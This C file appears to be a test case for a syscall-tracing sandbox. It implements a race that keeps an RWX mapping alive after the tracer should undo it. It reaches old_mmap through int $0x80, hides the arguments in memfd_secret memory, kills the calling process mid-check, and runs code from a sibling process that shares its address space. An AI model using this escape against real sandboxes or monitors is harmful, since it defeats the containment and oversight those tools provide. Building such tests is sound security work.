/*
 * Attack: the caller of an mmap the tracer undoes at its exit dies before
 * the undo, and a process sharing its address space keeps the mapping.
 *
 * Main makes V, a process sharing its address space (clone CLONE_VM, its
 * own descriptor table), and K, a plain child. Main asks, by i386 old_mmap
 * (int $0x80) with its argument block in memfd_secret memory (unreadable
 * to a tracer, which judges the call at its exit from the kernel's maps),
 * for an anonymous RWX page at a fixed address, up to ROUNDS times. K spins
 * on /proc/<main>/maps and SIGKILLs main the moment the page is there
 * (rwx): a tracer is then judging the exit stop and cannot unmap it in a
 * thread that is gone. V waits for the page, writes code into it and calls
 * it (RAN undo_killed_call). Main dies (natively too: K kills it).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <time.h>

#include "common.h"

#define I386_NR_OLD_MMAP 90
#define FIXED_ADDR 0x90000000UL
#define ROUNDS 50

struct old_mmap_args {
	uint32_t addr, len, prot, flags, fd, offset;
};

static long int80_1(long nr, long a)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a) : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

/* Whether the page at FIXED_ADDR is mapped rwx in `pid` (no malloc: V
 * shares main's heap). */
static int rwx_in(pid_t pid)
{
	static __thread char text[1 << 16];
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	return strstr(text, "\n90000000-90001000 rwx") != NULL || strncmp(text, "90000000-90001000 rwx", 21) == 0;
}

/* V: on its own stack, in main's address space. */
static int sharer(void *unused)
{
	time_t end = time(NULL) + 5;

	(void)unused;
	while (time(NULL) < end) {
		if (rwx_in(getpid())) {
			usleep(20000); /* main is gone by now, or the page undone */
			if (!rwx_in(getpid()))
				continue;
			tw_put_code((void *)FIXED_ADDR);
			tw_run("undo_killed_call", (void *)FIXED_ADDR);
			break;
		}
	}
	return 0;
}

int main(void)
{
	static char stack[1 << 16] __attribute__((aligned(16)));
	size_t pg = tw_page();
	pid_t program = getpid(), shared, killer;
	struct old_mmap_args *block;
	long rc = 0;
	int fd, i;

	tw_init();
	fd = (int)syscall(SYS_memfd_secret, 0);
	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0 || ftruncate(fd, (off_t)pg) != 0)
		return tw_done();
	block = mmap(NULL, pg, TW_RW, MAP_SHARED | MAP_32BIT, fd, 0);
	if (block == MAP_FAILED)
		return 1;
	*block = (struct old_mmap_args){(uint32_t)FIXED_ADDR, (uint32_t)pg, TW_RWX,
					MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, (uint32_t)-1, 0};
	shared = clone(sharer, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
	killer = fork();
	if (killer == 0) {
		time_t end = time(NULL) + 5;

		while (time(NULL) < end)
			if (rwx_in(program)) {
				kill(program, SIGKILL);
				break;
			}
		_exit(0);
	}
	usleep(100000);
	for (i = 0; i < ROUNDS; i++) {
		rc = int80_1(I386_NR_OLD_MMAP, (long)(uintptr_t)block);
		if (!(rc < 0 && rc > -4096))
			break;
		usleep(10000);
	}
	tw_step_raw("old_mmap", "mmap", rc);
	tw_wait_child("sharer", shared);
	tw_wait_child("killer", killer);
	return tw_done();
}
